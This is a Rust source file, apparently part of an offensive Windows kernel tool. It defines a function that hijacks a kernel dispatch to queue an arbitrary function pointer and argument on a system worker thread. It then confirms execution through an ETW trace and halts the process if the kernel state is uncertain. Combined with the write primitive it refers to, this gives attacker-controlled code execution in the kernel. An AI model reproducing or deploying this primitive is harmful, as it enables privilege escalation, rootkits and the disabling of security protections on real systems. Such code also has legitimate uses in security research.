#[cfg(windows)]
use crate::error::R0akError;

/// Queues `function(argument)` on a system worker thread through one
/// hijacked dispatch and waits for the kernel to confirm it ran.
///
/// Same completion policy as the write primitive: if the trace never
/// confirms the item, the process parks itself rather than return with the
/// kernel in an unknown state.
#[cfg(windows)]
pub fn execute_kernel(
    exec: &mut crate::exec::KernelExecute,
    routines: &crate::sym::KernelRoutines,
    function: u64,
    argument: u64,
) -> Result<(), R0akError> {
    use crate::etw::EtwSession;
    use crate::util::halt_indeterminate;

    println!("[+] Calling function pointer                             0x{function:016X}");
    exec.set_callback(function, argument)
        .inspect_err(|_| println!("[-] Failed to initialize work item trampoline"))?;

    let session = EtwSession::start(function)
        .inspect_err(|_| println!("[-] Failed to start ETW trace"))?;

    if let Err(error) = exec.run() {
        println!("[-] Failed to execute work item");
        session.stop();
        return Err(error);
    }

    if !session.join() {
        println!("[-] Failed to parse ETW trace");
        halt_indeterminate();
    }
    Ok(())
}
